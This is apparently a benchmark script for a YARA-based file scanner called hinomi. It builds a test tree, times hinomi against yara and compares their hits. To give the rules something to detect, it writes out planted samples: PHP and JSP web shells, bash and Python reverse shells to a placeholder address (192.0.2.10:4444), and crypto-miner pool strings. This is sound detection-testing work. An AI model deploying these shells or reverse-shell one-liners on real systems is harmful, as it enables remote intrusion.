#!/bin/sh
# scan.sh HINOMI DIR - `make bench`'s scan block: `hinomi scan` against
# `yara -r` with the same rules (rules/yara/) on the same tree, and the
# rescan of the unchanged tree.  bench/README.md ("Scanning") explains the
# output; run.sh runs it (BENCH_ONLY token "scan").
#
# The tree (made once in DIR, a directory of the caller's: ~2,000 files,
# ~300 MB): text files, shell scripts, random binaries, copies of ELF
# files of /usr/bin, and a few planted samples our rules find.  It is read
# once before the runs, so every run reads from the page cache.
#
# Each of BENCH_SCAN_RUNS runs (5) times, alternating which goes first:
#   yara      yara -r -p NCPU RULES... TREE
#   first     hinomi scan --rules rules/yara --no-ioc on a fresh store and
#             a fresh state directory (the rules compiled, as yara does)
#   rescan    the same again on that store: every file unchanged
# each under /usr/bin/time (wall, user + system CPU, peak RSS).  Medians.
# The hits of yara and of hinomi's first scan are compared as sets of
# (rule, path): they must be equal.
#
# Prints human lines and one machine line "SCAN key=value ...".
# Bounds: every command under `timeout`; the runs are counted; everything
# is under DIR (the caller removes it).
set -u

HINOMI=$1
DIR=$2
RUNS=${BENCH_SCAN_RUNS:-5}
N_TEXT=${BENCH_SCAN_TEXT:-700}
N_SCRIPT=${BENCH_SCAN_SCRIPTS:-300}
N_RAND=${BENCH_SCAN_RANDOM:-700}
N_ELF=${BENCH_SCAN_ELF:-300}
N_ELF_KINDS=${BENCH_SCAN_ELF_KINDS:-12}
T_RATIO=1.0
T_RESCAN=10
TO=600

die() { echo "bench scan: $*" >&2; exit 1; }

case $RUNS in ''|*[!0-9]*) die "BENCH_SCAN_RUNS wants a number" ;; esac
[ "$RUNS" -ge 1 ] && [ "$RUNS" -le 20 ] || die "BENCH_SCAN_RUNS wants 1..20"
command -v yara >/dev/null 2>&1 || die "yara is missing (scripts/install-deps.sh)"
command -v python3 >/dev/null 2>&1 || die "python3 is missing"
[ -x /usr/bin/time ] || die "/usr/bin/time is missing"
[ -d rules/yara ] || die "no rules/yara (run from the repository's root)"
mkdir -p "$DIR" || die "mkdir $DIR"
TREE=$DIR/tree
RULES=$(ls rules/yara/*.yar rules/yara/*.yara 2>/dev/null)
[ -n "$RULES" ] || die "no rule file in rules/yara"
NCPU=$(nproc)

# ---- the tree ----
python3 - "$TREE" "$N_TEXT" "$N_SCRIPT" "$N_RAND" "$N_ELF" "$N_ELF_KINDS" <<'EOF' || die "cannot make the tree"
import os, random, shutil, sys
tree, n_text, n_script, n_rand, n_elf, n_elf_kinds = sys.argv[1], *map(int, sys.argv[2:])
rnd = random.Random(20240501)
os.makedirs(tree)
words = ("the of and to in is that for it as was with be by on not he this are or "
         "his from at which but have an they you were her she there been one all we "
         "their has would when if so no will more can about what up out them some "
         "server client request config value error status return function while "
         "report process memory network socket file system user admin data table").split()
def sub(i):
    d = os.path.join(tree, "d%02d" % (i % 40), "s%d" % (i % 7))
    os.makedirs(d, exist_ok=True)
    return d
for i in range(n_text):
    size = rnd.randint(4 << 10, 96 << 10)
    out, n = [], 0
    while n < size:
        line = " ".join(rnd.choice(words) for _ in range(rnd.randint(4, 16))) + "\n"
        out.append(line); n += len(line)
    with open(os.path.join(sub(i), "doc%04d.txt" % i), "w") as f:
        f.write("".join(out))
scripts = []
for d in ("/usr/bin", "/usr/sbin", "/usr/share/doc"):
    for root, _, files in os.walk(d):
        for name in sorted(files):
            p = os.path.join(root, name)
            try:
                if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > (1 << 20):
                    continue
                with open(p, "rb") as f:
                    if f.read(2) == b"#!":
                        scripts.append(p)
            except OSError:
                pass
        if len(scripts) > 400:
            break
# a few ELF files of /usr/bin (128 KiB to 1 MiB), copied round-robin
elfs = []
for name in sorted(os.listdir("/usr/bin")):
    p = os.path.join("/usr/bin", name)
    try:
        if os.path.islink(p) or not os.path.isfile(p):
            continue
        sz = os.path.getsize(p)
        if sz < (128 << 10) or sz > (1 << 20):
            continue
        with open(p, "rb") as f:
            if f.read(4) == b"\x7fELF":
                elfs.append(p)
    except OSError:
        pass
    if len(elfs) == n_elf_kinds:
        break
for i in range(n_script):
    if scripts:
        shutil.copyfile(scripts[i % len(scripts)], os.path.join(sub(i), "script%04d.sh" % i))
for i in range(n_rand):
    with open(os.path.join(sub(i), "blob%04d.bin" % i), "wb") as f:
        f.write(rnd.randbytes(rnd.randint(64 << 10, 352 << 10)))
for i in range(n_elf):
    if elfs:
        shutil.copyfile(elfs[i % len(elfs)], os.path.join(sub(i), "elf%04d" % i))
# planted samples (our rules' own scenarios)
planted = {
    "www/upload/img.php": "<?php\n@eval($_POST['z']);\n?>\n",
    "www/cmd.jsp": "<%@ page import=\"java.io.*\" %>\n<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n",
    "tmp/.x/r.sh": "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n",
    "tmp/.x/r.py": "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"192.0.2.10\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nimport pty\npty.spawn(\"/bin/sh\")\n",
    "tmp/.x/config.json": "{\n  \"donate-level\": 1,\n  \"pools\": [\n    {\"url\": \"stratum+tcp://pool.example.net:3333\", \"user\": \"w\", \"coin\": \"monero\"}\n  ]\n}\n",
}
for rel, text in planted.items():
    p = os.path.join(tree, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "w") as f:
        f.write(text)
if elfs:
    p = os.path.join(tree, "tmp/.x/kworkerd")
    shutil.copyfile(elfs[0], p)
    with open(p, "ab") as f:
        f.write(b"\0stratum+tcp://pool.example.net:3333\0mining.subscribe\0mining.authorize\0")
EOF
FILES=$(find "$TREE" -type f | wc -l)
BYTES=$(find "$TREE" -type f -printf '%s\n' | awk '{ s += $1 } END { printf "%.0f", s }')
MB=$(awk -v b="$BYTES" 'BEGIN { printf "%.1f", b / 1e6 }')
find "$TREE" -type f -exec cat {} + >/dev/null   # into the page cache
echo
echo "scanning ($FILES files, $MB MB: text, scripts, random binaries, ELF copies of /usr/bin,"
echo "          6 planted samples; rules: rules/yara, $(echo "$RULES" | wc -w) files; $NCPU CPUs; $RUNS runs):"

# `yara -r` prints "RULE PATH"; hinomi's NDJSON hits give the same pair
yara_hits() { awk 'NF >= 2 { r = $1; $1 = ""; sub(/^ /, ""); print r " " $0 }' "$1" | sort; }
hinomi_hits() {
	python3 -c '
import json, sys
for line in open(sys.argv[1]):
    o = json.loads(line)
    if o.get("type") == "hit":
        print(o["rule"]["id"].split(":")[-1] + " " + o["path"])
' "$1" | sort
}

# one timed command: $1 name, $2 run, then the command; appends a TIME line
timed() {
	name=$1 run=$2; shift 2
	t0=$(date +%s%N)
	/usr/bin/time -f "%e %U %S %M" -o "$DIR/time.$name" timeout "$TO" "$@" \
		>"$DIR/out.$name.$run" 2>"$DIR/err.$name.$run"
	rc=$?
	t1=$(date +%s%N)
	set -- $(tail -n 1 "$DIR/time.$name")
	# wall time to the ms (time's %e has 10 ms steps); CPU and RSS from time
	set -- "$(awk -v a="$t0" -v b="$t1" 'BEGIN { printf "%.3f", (b - a) / 1e9 }')" "$2" "$3" "$4"
	echo "TIME name=$name run=$run rc=$rc s=$1 cpu=$(awk -v u="$2" -v s="$3" 'BEGIN { print u + s }') rss_kb=$4" \
		>>"$DIR/times"
	printf '  run %d %-7s %7.3f s  %8.1f MB/s  cpu %6.2f s  rss %4d MB  rc %d\n' "$run" "$name" "$1" \
		"$(awk -v b="$BYTES" -v s="$1" 'BEGIN { print (s > 0 ? b / 1e6 / s : 0) }')" \
		"$(awk -v u="$2" -v s="$3" 'BEGIN { print u + s }')" $(( $4 / 1024 )) "$rc"
}

: >"$DIR/times"
# shellcheck disable=SC2086
run_yara() { timed yara "$1" yara -r -p "$NCPU" $RULES "$TREE"; }
run_hinomi() {
	timed "$1" "$2" env HINOMI_STATE_DIR="$DIR/state" "$HINOMI" scan --rules rules/yara \
		--no-ioc --db "$DIR/state/hinomi.db" --json "$TREE"
}
i=1
while [ $i -le "$RUNS" ]; do
	# a fresh store and state directory: nothing cached, rules compiled
	rm -rf "$DIR/state" && mkdir -p "$DIR/state" || die "cannot reset $DIR/state"
	if [ $((i % 2)) -eq 1 ]; then
		run_yara $i
		run_hinomi first $i
	else
		run_hinomi first $i
		run_yara $i
	fi
	run_hinomi rescan $i
	i=$((i + 1))
done

yara_hits "$DIR/out.yara.1" >"$DIR/hits.yara"
hinomi_hits "$DIR/out.first.1" >"$DIR/hits.first"
hinomi_hits "$DIR/out.rescan.1" >"$DIR/hits.rescan"
HY=$(wc -l <"$DIR/hits.yara"); HH=$(wc -l <"$DIR/hits.first"); HR=$(wc -l <"$DIR/hits.rescan")
if cmp -s "$DIR/hits.yara" "$DIR/hits.first"; then SAME=1; else SAME=0; fi
RESCAN_FILES="$(python3 -c '
import json, sys
for line in open(sys.argv[1]):
    o = json.loads(line)
    if o.get("type") == "summary":
        print(o["files"], o["skipped_unchanged"])
' "$DIR/out.rescan.1") $(python3 -c '
import json, sys
for line in open(sys.argv[1]):
    o = json.loads(line)
    if o.get("type") == "summary":
        print(o["same_content"])
' "$DIR/out.first.1")"

awk -v bytes="$BYTES" -v files="$FILES" -v t_ratio="$T_RATIO" -v t_rescan="$T_RESCAN" \
    -v hy="$HY" -v hh="$HH" -v hr="$HR" -v same="$SAME" -v rescan_files="$RESCAN_FILES" \
    -v runs="$RUNS" -v ncpu="$NCPU" '
function kv(line, key,    m) {
	if (match(line, " " key "=[^ ]*")) return substr(line, RSTART + length(key) + 2, RLENGTH - length(key) - 2)
	return ""
}
function median(arr, n,    i, j, t, b) {
	for (i = 1; i <= n; i++) b[i] = arr[i]
	for (i = 2; i <= n; i++) { t = b[i]; for (j = i - 1; j >= 1 && b[j] > t; j--) b[j + 1] = b[j]; b[j + 1] = t }
	return n ? ((n % 2) ? b[(n + 1) / 2] : (b[n / 2] + b[n / 2 + 1]) / 2) : 0
}
/^TIME / {
	w = kv($0, "name"); k = ++n[w]
	s[w, k] = kv($0, "s") + 0; c[w, k] = kv($0, "cpu") + 0
	r = kv($0, "rss_kb") + 0; if (r > rss[w]) rss[w] = r
}
END {
	split("yara first rescan", ws, " ")
	for (x = 1; x <= 3; x++) {
		w = ws[x]
		for (i = 1; i <= n[w]; i++) a[i] = s[w, i]; ms[w] = median(a, n[w])
		for (i = 1; i <= n[w]; i++) a[i] = c[w, i]; mc[w] = median(a, n[w])
		mbs[w] = ms[w] > 0 ? bytes / 1e6 / ms[w] : 0
	}
	ratio = mbs["yara"] > 0 ? mbs["first"] / mbs["yara"] : 0
	speed = ms["rescan"] > 0 ? ms["first"] / ms["rescan"] : 0
	split(rescan_files, rf, " ")
	printf "  yara -r -p %d:    %6.3f s  %7.1f MB/s  cpu %6.2f s  peak RSS %4.0f MB\n", ncpu, ms["yara"], mbs["yara"], mc["yara"], rss["yara"] / 1024
	printf "  hinomi scan:      %6.3f s  %7.1f MB/s  cpu %6.2f s  peak RSS %4.0f MB   hinomi/yara %.2fx, target >= %.1fx %s\n", ms["first"], mbs["first"], mc["first"], rss["first"] / 1024, ratio, t_ratio, (ratio >= t_ratio ? "ok" : "MISS")
	printf "  hinomi rescan:    %6.3f s  %7.1f MB/s  cpu %6.2f s  peak RSS %4.0f MB   %.1fx faster than the first scan, target >= %dx %s\n", ms["rescan"], mbs["rescan"], mc["rescan"], rss["rescan"] / 1024, speed, t_rescan, (speed >= t_rescan ? "ok" : "MISS")
	printf "  first scan: %d files read for the same content as one scanned before (SHA-256), their result reused\n", rf[3]
	printf "  rescan: %d files scanned, %d skipped unchanged\n", rf[1], rf[2]
	printf "  hits: yara %d, hinomi %d (rescan %d): %s\n", hy, hh, hr, same ? "the same (rule, path) pairs" : "DIFFERENT (see hits.yara / hits.first)"
	printf "SCAN files=%d bytes=%.0f runs=%d ncpu=%d yara_s=%.3f yara_mb_s=%.1f yara_cpu_s=%.2f yara_rss_kb=%d first_s=%.3f first_mb_s=%.1f first_cpu_s=%.2f first_rss_kb=%d rescan_s=%.3f rescan_cpu_s=%.2f rescan_rss_kb=%d ratio=%.3f ratio_target=%.1f ratio_ok=%d rescan_speedup=%.1f rescan_target=%d rescan_ok=%d hits_yara=%d hits_hinomi=%d hits_same=%d rescan_scanned=%d rescan_unchanged=%d same_content=%d\n", files, bytes, runs, ncpu, ms["yara"], mbs["yara"], mc["yara"], rss["yara"], ms["first"], mbs["first"], mc["first"], rss["first"], ms["rescan"], mc["rescan"], rss["rescan"], ratio, t_ratio, (ratio >= t_ratio), speed, t_rescan, (speed >= t_rescan), hy, hh, same, rf[1], rf[2], rf[3]
}' "$DIR/times"
